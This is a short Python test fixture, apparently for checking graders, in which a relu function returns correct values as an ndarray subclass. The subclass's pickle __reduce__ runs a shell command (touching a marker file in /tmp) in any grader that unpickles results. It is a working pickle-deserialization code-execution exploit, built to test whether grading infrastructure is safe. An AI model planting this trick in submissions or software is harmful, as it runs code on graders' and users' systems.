"""relu returns the right values as an ndarray subclass whose __reduce__ makes unpickling run
os.system("touch /tmp/pwned_pickle_reduce_rce") before it rebuilds the array.

The reduce tuple's arguments hold an object that unpickles as a direct call of os.system, so
the command runs even where this module cannot be imported (rebuilding the array afterwards
then fails). A grader that sends results back with pickle (multiprocessing,
concurrent.futures, pickle.loads of the child's output) runs the student's command in the
grading process. A safe grader sends plain data (JSON of numbers) and the marker file never
appears. The values are right, so relu may keep its points.

file: activations.py
may_lose: relu
"""
import os

import numpy as np


class _Command:
    """Unpickled as os.system("touch /tmp/pwned_pickle_reduce_rce")."""

    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned_pickle_reduce_rce",))


def _rebuild_after(_command_status, data, dtype, shape):
    return np.array(data, dtype=dtype).reshape(shape)


class _Payload(np.ndarray):
    def __reduce__(self):
        return (_rebuild_after, (_Command(), np.asarray(self).tolist(), str(self.dtype), self.shape))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def relu(x):
    return np.maximum(0, x).view(_Payload)
